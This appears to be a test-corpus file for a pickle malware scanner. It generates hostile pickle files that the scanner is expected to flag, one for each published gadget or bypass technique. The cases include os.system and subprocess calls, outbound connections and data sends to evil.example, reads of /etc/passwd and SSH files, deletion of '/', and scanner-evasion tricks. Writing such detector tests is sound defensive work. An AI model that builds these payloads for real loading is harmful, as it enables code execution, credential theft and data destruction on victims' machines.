import type { CorpusCase } from './corpus-types.js';
import { callPickle, PickleWriter, stackGlobalCall } from './pickle-writer.js';

const cmd = 'id';
const enc = new TextEncoder();

function call(name: string, module: string, fn: string, technique: string, args: string[] = [cmd], proto = 2): CorpusCase {
  return { name, file: `${name}.pkl`, bytes: () => callPickle(module, fn, args, proto), expect: 'malicious', technique };
}

/** Nested pickle: `loader(bytes)` where the bytes are themselves a pickle. */
function nested(module: string, fn: string, inner: Uint8Array): Uint8Array {
  return new PickleWriter().proto(2).global(module, fn).bytes(inner).tupleN(1).reduce().stop().toBytes();
}

/**
 * Pickle payloads, one per published gadget or bypass technique (picklescan, modelscan, fickling,
 * ModelAudit advisories and issues; JFrog/ReversingLabs research). Each must be `malicious`
 * unless noted — never `clean`.
 */
export const hostilePickles: CorpusCase[] = [
  call('os-system', 'os', 'system', 'classic __reduce__ → os.system'),
  call('posix-system', 'posix', 'system', 'os.system pickles as posix.system on Linux'),
  call('nt-system', 'nt', 'system', 'os.system pickles as nt.system on Windows'),
  call('subprocess-check-output', 'subprocess', 'check_output', 'subprocess via REDUCE'),
  call('builtins-eval', 'builtins', 'eval', 'builtins.eval', ['__import__("os").system("id")']),
  call('builtins-exec', 'builtins', 'exec', 'builtins.exec', ['import os']),
  call('builtin-py2-eval', '__builtin__', 'eval', 'py2 alias __builtin__ (picklescan malicious15)', ['1'], 0),
  call('builtins-compile', 'builtins', 'compile', 'builtins.compile', ['1', 'x', 'eval']),
  call('builtins-import', 'builtins', '__import__', '__import__ then getattr', ['os']),
  call('builtins-open', 'builtins', 'open', 'file write via builtins.open', ['/tmp/x', 'w']),
  call('builtins-breakpoint', 'builtins', 'breakpoint', 'breakpoint() opens pdb', []),
  call('runpy-run-path', 'runpy', 'run_path', 'runpy executes a file', ['/tmp/x.py']),
  call('runpy-run-code', 'runpy', '_run_code', 'runpy._run_code', ['print(1)', '{}']),
  call('importlib-import-module', 'importlib', 'import_module', 'importlib bypass (picklescan PR #74, modelscan #331)', ['os']),
  call('pkgutil-resolve-name', 'pkgutil', 'resolve_name', 'universal bypass GHSA-vvpj-8cmc-gx39', ['os:system']),
  call('operator-attrgetter', 'operator', 'attrgetter', 'GHSA-m273 operator.attrgetter chain', ['system']),
  call('operator-methodcaller', '_operator', 'methodcaller', 'GHSA-955r _operator.methodcaller', ['system', cmd]),
  call('operator-itemgetter', 'operator', 'itemgetter', 'itemgetter on sys.modules', ['os']),
  call('functools-partial', 'functools', 'partial', 'functools.partial wrapper bypass', ['x']),
  call('ctypes-cdll', 'ctypes', 'CDLL', 'native library load', ['libc.so.6']),
  call('socket-connect', 'socket', 'create_connection', 'reverse shell primitive', ['evil.example']),
  call('shutil-copy', 'shutil', 'copy', 'shutil file copy (saferpickle #1)', ['/etc/passwd', 'foo']),
  call('shutil-rmtree', 'shutil', 'rmtree', 'destructive file ops', ['/']),
  call('webbrowser-open', 'webbrowser', 'open', 'webbrowser.open launches a handler', ['http://evil.example']),
  call('pip-main', 'pip', 'main', 'pip.main install of attacker package', ['install', 'evil']),
  call('pip-internal-main', 'pip._internal', 'main', 'pip._internal.main (GHSA-vqmv)', ['install', 'evil']),
  call('code-interactive-runsource', 'code', 'InteractiveInterpreter.runsource', 'code module dotted method'),
  call('pdb-run', 'pdb', 'run', 'debugger run (picklescan PR #29)'),
  call('bdb-run', 'bdb', 'Bdb.run', 'bdb.Bdb.run dotted method'),
  call('timeit-timeit', 'timeit', 'timeit', 'timeit executes a statement (GHSA-46h3)', ['__import__("os").system("id")']),
  call('cprofile-run', 'cProfile', 'run', 'cProfile.run executes a statement'),
  call('profile-run', 'profile', 'run', 'profile.run executes a statement'),
  call('trace-run', 'trace', 'Trace.run', 'trace.Trace.run'),
  call('idlelib-pyshell', 'idlelib.pyshell', 'ModifiedInterpreter.runcode', 'idlelib gadget (GHSA-r8g5)'),
  call('idlelib-run', 'idlelib.run', 'Executive.runcode', 'idlelib.run gadget'),
  call('lib2to3-make-label', 'lib2to3.pgen2.pgen', 'ParserGenerator.make_label', 'lib2to3 eval gadget'),
  call('torch-serialization-load', 'torch.serialization', 'load', 'nested torch.load', ['x.pt']),
  call('torch-load', 'torch', 'load', 'torch.load of attacker file', ['x.pt']),
  call('numpy-load', 'numpy', 'load', 'numpy.load(allow_pickle) nested', ['x.npy']),
  call('asyncio-subprocess', 'asyncio.subprocess', 'create_subprocess_shell', 'asyncio.subprocess'),
  call('asyncio-unix-transport', 'asyncio.unix_events', '_UnixSubprocessTransport._start', 'CVE-2025-10157 asyncio subclass'),
  call('multiprocessing-spawnv', 'multiprocessing.util', 'spawnv_passfds', 'modelscan #338 spawnv_passfds', ['/bin/sh']),
  call('torch-collect-env-run', 'torch.utils.collect_env', 'run', 'modelscan #338 torch.utils.collect_env.run'),
  call('torch-bottleneck', 'torch.utils.bottleneck.__main__', 'run_cprofile', 'torch.utils.bottleneck'),
  call('numpy-runstring', 'numpy.testing._private.utils', 'runstring', 'numpy.testing runstring', ['import os', '{}']),
  call('numpy-f2py-getlincoef', 'numpy.f2py.crackfortran', 'getlincoef', 'numpy f2py eval gadget', ['x', '{}']),
  call('marshal-loads', 'marshal', 'loads', 'marshal code object (picklescan PR #74)', []),
  call('types-functiontype', 'types', 'FunctionType', 'build a function from a code object', []),
  call('io-fileio', '_io', 'FileIO', 'CVE-2025-10156 class _io.FileIO', ['/etc/passwd']),
  call('io-open', 'io', 'open', 'io.open file access', ['/etc/passwd']),
  call('distutils-write-file', 'distutils.file_util', 'write_file', 'distutils write_file', ['/tmp/x']),
  call('pydoc-pipepager', 'pydoc', 'pipepager', 'pydoc.pipepager runs a shell command', ['x', cmd]),
  call('uuid-command-stdout', 'uuid', '_get_command_stdout', 'uuid._get_command_stdout runs a command', [cmd]),
  call('imaplib-stream', 'imaplib', 'IMAP4_stream', 'IMAP4_stream runs a command via Popen'),
  call('mailcap-findmatch', 'mailcap', 'findmatch', 'mailcap.findmatch (modelscan PR #346)', []),
  call('interpreters-run-string', '_interpreters', 'run_string', 'private subinterpreter module (GHSA-6ggj)', ['1', 'import os']),
  call('sys-modules', 'sys', 'modules', 'sys.modules lookup', []),
  call('ensurepip-run-pip', 'ensurepip', '_run_pip', 'ensurepip runs pip', []),
  call('doctest-debug-script', 'doctest', 'debug_script', 'doctest.debug_script executes source', ['import os']),
  call('requests-get', 'requests', 'get', 'exfiltration over HTTP', ['http://evil.example']),
  call('urllib-urlopen', 'urllib.request', 'urlopen', 'urllib exfiltration', ['http://evil.example']),
  call('pandas-read-csv', 'pandas.io.parsers.readers', 'read_csv', 'modelscan #338 pandas read_csv exfil', ['http://evil.example']),
  call('mlflow-run-entry-point', 'mlflow.projects.backend.local', '_run_entry_point', 'modelscan #338 mlflow gadget'),
  call('dill-create-code', 'dill._dill', '_create_code', 'dill serialised code object', []),
  call('cloudpickle-make-function', 'cloudpickle.cloudpickle', '_make_function', 'cloudpickle serialised function', []),
  call('torch-jit-load', 'torch.jit', 'load', 'nested TorchScript load', ['x.pt']),
  call('torch-hub-load', 'torch.hub', 'load', 'torch.hub.load fetches and runs hubconf.py', ['evil/repo', 'm']),
  call('torch-package-importer', 'torch.package', 'PackageImporter', 'torch.package runs packaged code', ['x.pt']),
  call('torch-inductor-compile', 'torch._inductor.codecache', 'compile_file', 'inductor compiles and loads C++', []),
  call('torch-fx-eval-guards', 'torch.fx.experimental.symbolic_shapes', 'ShapeEnv.evaluate_guards_expression', 'eval inside torch.fx', ['1']),
  call('keras-load-model', 'keras.models', 'load_model', 'nested Keras load without safe_mode', ['x.h5']),
  call('joblib-load-nested', 'joblib', 'load', 'nested joblib.load', ['x.joblib']),
  call('numpy-ctypeslib', 'numpy.ctypeslib', 'load_library', 'native library via numpy.ctypeslib', ['evil', '.']),
  call('pandas-read-pickle', 'pandas', 'read_pickle', 'nested pandas.read_pickle', ['x.pkl']),
  call('pandas-eval', 'pandas', 'eval', 'pandas.eval expression', ['1']),
  call('yaml-unsafe-load', 'yaml', 'unsafe_load', 'PyYAML unsafe_load', ['!!python/object/apply:os.system [id]']),
  call('jsonpickle-decode', 'jsonpickle', 'decode', 'jsonpickle.decode', ['{}']),
  call('sympy-sympify', 'sympy', 'sympify', 'sympify evaluates strings', ['1']),
  call('importlib-find-spec', 'importlib.util', 'find_spec', 'picklescan #66 importlib.util chain', ['os']),
  call('operator-getitem-sys-modules', 'operator', 'getitem', 'operator.getitem(sys.modules, "os")', ['os']),
  call('functools-reduce', 'functools', 'reduce', 'functools.reduce callback chain', []),
  call('collections-namedtuple', 'collections', 'namedtuple', 'namedtuple builds classes with exec', ['X', 'a']),
  call('copyreg-add-extension', 'copyreg', 'add_extension', 'registering an extension code at load time', ['os', 'system', '1']),
  call('ctypes-loadlibrary', 'ctypes', 'cdll.LoadLibrary', 'ctypes dotted loader', ['libc.so.6']),
  call('site-addsitedir', 'site', 'addsitedir', 'site.addsitedir runs .pth files', ['/tmp']),
  call('logging-config-listen', 'logging.config', 'listen', 'logging.config.listen evaluates received config', []),
  call('xmlrpc-proxy', 'xmlrpc.client', 'ServerProxy', 'outbound RPC', ['http://evil.example']),
  call('smtplib-smtp', 'smtplib', 'SMTP', 'outbound mail (exfiltration)', ['evil.example']),
  call('ftplib-ftp', 'ftplib', 'FTP', 'outbound FTP (exfiltration)', ['evil.example']),
  call('tarfile-open', 'tarfile', 'open', 'archive extraction writes files', ['x.tar']),
  call('zipfile-zipfile', 'zipfile', 'ZipFile.extractall', 'zip extraction writes files', ['x.zip']),
  call('glob-glob', 'glob', 'glob', 'file-system reconnaissance', ['/home/*/.ssh/*']),
  call('http-server', 'http.server', 'test', 'starts an HTTP server', []),
  call('threading-thread', 'threading', 'Thread', 'background thread with a payload target', []),
  call('concurrent-process-pool', 'concurrent.futures', 'ProcessPoolExecutor', 'spawns worker processes', []),
  call('osx-support-read-output', '_osx_support', '_read_output', '_osx_support._read_output runs a command', [cmd]),
  call('aix-support-read-cmd', '_aix_support', '_read_cmd_output', '_aix_support runs a command', [cmd]),
  call('posixsubprocess-fork-exec', '_posixsubprocess', 'fork_exec', 'raw fork_exec', []),
  call('winapi-create-process', '_winapi', 'CreateProcess', 'raw CreateProcess', []),
  call('sys-settrace', 'sys', 'settrace', 'tracing hook', []),
  call('gc-get-objects', 'gc', 'get_objects', 'reach any live object', []),
  call('inspect-getsource', 'inspect', 'getsource', 'source disclosure', []),
  call('pydoc-locate', 'pydoc', 'locate', 'pydoc.locate resolves any name', ['os.system']),
  call('ipython-run-cell', 'IPython.core.interactiveshell', 'InteractiveShell.run_cell', 'IPython executes a cell', ['import os']),
  call('venv-create', 'venv', 'create', 'venv.create runs ensurepip', ['/tmp/v']),
  call('xxsubinterpreters', '_xxsubinterpreters', 'run_string', 'legacy subinterpreter module (GHSA-6ggj)', ['1', 'x']),
  call('dill-loads-direct', 'dill', 'loads', 'dill.loads', []),
  call('random-os-system', 'random', '_os.system', 'dotted name through a module alias (random._os)', [cmd], 4),
  call('numpy-sys-modules-chain', 'numpy', 'core._internal.sys.modules', 'modelscan #89 attribute chain to sys', [], 4),
  call('numpy-builtins', 'numpy', '__builtins__', 'modelscan #89/#330 numpy.__builtins__', [], 4),
  call('pty-spawn-proto0', 'pty', 'spawn', 'fickling PR #108 pty.spawn', [cmd], 0),
  {
    name: 'inst-opcode',
    file: 'inst.pkl',
    bytes: () => enc.encode(`(S'${cmd}'\nios\nsystem\n.`),
    expect: 'malicious',
    technique: 'protocol 0 INST opcode',
  },
  {
    name: 'obj-opcode',
    file: 'obj.pkl',
    bytes: () => enc.encode(`(csubprocess\ncall\nS'${cmd}'\no.`),
    expect: 'malicious',
    technique: 'OBJ opcode with GLOBAL inside the MARK',
  },
  {
    name: 'newobj-popen',
    file: 'newobj.pkl',
    bytes: () => new PickleWriter().proto(2).global('subprocess', 'Popen').str(cmd).tupleN(1).newobj().stop().toBytes(),
    expect: 'malicious',
    technique: 'NEWOBJ on subprocess.Popen',
  },
  {
    name: 'newobj-ex-popen',
    file: 'newobjex.pkl',
    bytes: () => new PickleWriter().proto(4).str('subprocess').str('Popen').stackGlobal().str(cmd).tupleN(1).emptyDict().op(0x92).stop().toBytes(),
    expect: 'malicious',
    technique: 'NEWOBJ_EX',
  },
  { name: 'stack-global', file: 'sg.pkl', bytes: () => stackGlobalCall('os', 'system', [cmd]), expect: 'malicious', technique: 'STACK_GLOBAL (protocol 4)' },
  {
    name: 'memo-confusion',
    file: 'memo.pkl',
    // picklescan #14: BINPUT and MEMOIZE mixed so a naive memo model sees torch._utils names.
    bytes: () =>
      new PickleWriter().proto(4).shortBinstring('os').binput(0).shortBinstring('system').binput(1)
        .str('torch._utils').memoize().str('_rebuild_tensor_v2').memoize()
        .binget(0).binget(1).stackGlobal().str(cmd).tupleN(1).reduce().stop().toBytes(),
    expect: 'malicious',
    technique: 'memo confusion: BINPUT/MEMOIZE mix + BINGET into STACK_GLOBAL (picklescan #14)',
  },
  {
    name: 'long-binput-memo',
    file: 'memo2.pkl',
    bytes: () => new PickleWriter().proto(4).str('posix').longBinput(70000).str('system').longBinput(5).pop().pop().longBinget(70000).longBinget(5).stackGlobal().str(cmd).tupleN(1).reduce().stop().toBytes(),
    expect: 'malicious',
    technique: 'LONG_BINPUT/LONG_BINGET indirection',
  },
  {
    name: 'build-setattr-global',
    file: 'build.pkl',
    // modelscan #85: BUILD sets attributes on numpy.prod, then STACK_GLOBAL reads them back.
    bytes: () =>
      new PickleWriter().proto(4).global('numpy', 'prod').none().mark().unicode0('a').unicode0('os').op('d').tupleN(2).build()
        .pop().global('numpy', 'prod.a').stop().toBytes(),
    expect: 'malicious',
    technique: 'BUILD slot-state setattr on an imported function (modelscan #85)',
  },
  {
    name: 'getattr-import-chain',
    file: 'chain.pkl',
    bytes: () => new PickleWriter().proto(2).global('builtins', 'getattr').global('builtins', '__import__').str('os').tupleN(1).reduce().str('system').tupleN(2).reduce().str(cmd).tupleN(1).reduce().stop().toBytes(),
    expect: 'malicious',
    technique: 'getattr(__import__("os"), "system")(cmd)',
  },
  {
    name: 'nested-pickle-loads',
    file: 'nested.pkl',
    bytes: () => nested('pickle', 'loads', callPickle('os', 'system', [cmd])),
    expect: 'malicious',
    technique: 'nested pickle.loads (modelscan #267)',
  },
  {
    name: 'nested-underscore-pickle',
    file: 'nested2.pkl',
    bytes: () => nested('_pickle', 'loads', callPickle('builtins', 'print', ['hi'])),
    expect: 'malicious',
    technique: '_pickle.loads nested (GHSA-84r2)',
  },
  {
    name: 'dill-loads-nested',
    file: 'nested3.pkl',
    bytes: () => nested('dill', 'loads', callPickle('os', 'system', [cmd])),
    expect: 'malicious',
    technique: 'dill.loads nested',
  },
  {
    name: 'nullifai-broken-tail',
    file: 'nullifai.pkl',
    // nullifAI: payload first, then a stream Python never finishes (invalid opcode).
    bytes: () => {
      const p = callPickle('os', 'system', [cmd]);
      const b = new Uint8Array(p.length + 3);
      b.set(p.subarray(0, p.length - 1));
      b.set([0x00, 0xff, 0xfe], p.length - 1);
      return b;
    },
    expect: 'malicious',
    technique: 'nullifAI broken pickle: payload before the break',
  },
  {
    name: 'edp-missing-memo',
    file: 'edp.pkl',
    bytes: () => new PickleWriter().proto(2).global('os', 'system').str(cmd).tupleN(1).reduce().pop().binget(9).stop().toBytes(),
    expect: 'malicious',
    technique: 'exception-directed: GET of an unset memo slot after the payload (modelscan PR #348)',
  },
  {
    name: 'frame-past-end',
    file: 'frame.pkl',
    bytes: () => new PickleWriter().proto(4).str('os').str('system').stackGlobal().str(cmd).tupleN(1).reduce().frame(1 << 20).stop().toBytes(),
    expect: 'malicious',
    technique: 'FRAME length past end of file after the payload',
  },
  {
    name: 'stacked-second-pickle',
    file: 'stacked.pkl',
    bytes: () => {
      const a = new PickleWriter().proto(2).emptyDict().stop().toBytes();
      const b = callPickle('os', 'system', [cmd]);
      const out = new Uint8Array(a.length + b.length);
      out.set(a);
      out.set(b, a.length);
      return out;
    },
    expect: 'malicious',
    technique: 'payload in the second of two stacked pickles',
  },
  {
    name: 'no-proto-opcode',
    file: 'weights.pkl',
    bytes: () => new PickleWriter().str('os').str('system').stackGlobal().str('id').tupleN(1).reduce().stop().toBytes(),
    expect: 'malicious',
    technique: 'binary pickle without its PROTO opcode',
  },
  {
    name: 'pickle-named-txt',
    file: 'notes.txt',
    bytes: () => callPickle('os', 'system', [cmd]),
    expect: 'malicious',
    technique: 'file extension bypass (CVE-2025-10155 class)',
  },
  {
    name: 'ext1-opcode',
    file: 'ext.pkl',
    bytes: () => new PickleWriter().proto(2).raw([0x82, 0x01]).str(cmd).tupleN(1).reduce().stop().toBytes(),
    expect: 'suspicious',
    technique: 'EXT1 extension-registry code hides the global',
  },
  {
    name: 'ext4-opcode',
    file: 'ext4.pkl',
    bytes: () => new PickleWriter().proto(2).raw([0x84, 0x39, 0x30, 0, 0]).tupleN(0).reduce().stop().toBytes(),
    expect: 'suspicious',
    technique: 'EXT4 extension code',
  },
  {
    name: 'dynamic-stack-global',
    file: 'dyn.pkl',
    // STACK_GLOBAL whose module name is computed by a call at load time.
    bytes: () => new PickleWriter().proto(4).global('builtins', 'str').str('os').tupleN(1).reduce().str('system').stackGlobal().stop().toBytes(),
    expect: 'suspicious',
    technique: 'STACK_GLOBAL with a name computed at load time',
  },
  {
    name: 'unknown-main-class',
    file: 'custom.pkl',
    bytes: () => new PickleWriter().proto(2).global('__main__', 'Exploit').tupleN(0).newobj().stop().toBytes(),
    expect: 'suspicious',
    technique: 'custom class outside the allowlist',
  },
];
